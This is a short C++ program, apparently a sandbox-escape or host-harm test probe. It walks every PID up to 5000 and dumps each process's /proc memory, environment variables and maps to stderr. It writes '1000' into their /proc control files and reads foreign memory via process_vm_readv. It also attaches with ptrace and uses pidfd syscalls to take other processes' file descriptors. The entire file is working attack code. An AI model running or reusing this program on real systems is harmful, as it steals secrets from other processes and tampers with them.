// host-harm; alive secret; reads the memory of every process by all the ways there are
#include <fcntl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>
#include <cstdio>
#include <string>
int main() {
  char b[4096];
  for (int p = 1; p < 5000; p++) {
    if (p == getpid()) continue;
    for (const char *f : {"mem", "environ", "maps", "auxv", "stack", "syscall", "clear_refs", "oom_score_adj", "timerslack_ns"}) {
      std::string path = "/proc/" + std::to_string(p) + "/" + f;
      int fd = open(path.c_str(), O_RDWR);
      if (fd < 0) fd = open(path.c_str(), O_RDONLY);
      if (fd < 0) continue;
      ssize_t n = pread(fd, b, sizeof b, 0);
      if (n > 0) fwrite(b, 1, n, stderr);
      if (write(fd, "1000\n", 5)) {}
      close(fd);
    }
    iovec mine{b, sizeof b}, theirs{(void *)0x400000, sizeof b};
    if (syscall(SYS_process_vm_readv, p, &mine, 1, &theirs, 1, 0) > 0) fwrite(b, 1, sizeof b, stderr);
    ptrace(PTRACE_SEIZE, p, 0, 0);
    syscall(434, p, 0);
    syscall(438, p, 3, 0);
  }
  puts("6");
}
